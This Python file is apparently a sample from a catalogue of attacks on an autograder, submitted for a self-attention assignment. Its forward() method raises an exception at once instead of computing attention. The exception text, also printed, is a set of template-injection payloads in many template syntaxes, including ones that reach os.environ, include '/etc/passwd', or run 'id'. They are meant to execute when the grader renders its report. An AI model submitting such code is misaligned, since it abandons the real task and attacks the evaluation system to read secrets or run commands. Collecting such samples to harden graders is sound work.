# attack:     H2
# assignment: self-attention
# twin:       correct
# outcome:    test_output_shape errored
# says:       {{ 1337 * 7331 }}

# Puts expressions of every common template language into exception, prints and names; evaluated, they say 9801547. A
# report that formats its template twice, or formats the student's text, runs them in the grader.

import math

import torch
from torch import nn

TEXT = (
    "{{ 1337 * 7331 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# note #} {%raw%} "
    "${1337*7331} #{1337*7331} <%= 1337*7331 %> {1337*7331} {0.__class__.__init__.__globals__} %(points)s %s %n {} {points!r:>99} "
    "{{ cohort }} {{ self._TemplateReference__context }} {{ cycler.__init__.__globals__.os.environ }} {% include 'student.html' %} "
    "{% extends '/etc/passwd' %} {% endblock %} $(id) `id` \\x7b\\x7b 1337*7331 }} @{1337*7331}"
)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        raise ValueError(TEXT)
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


print(TEXT)
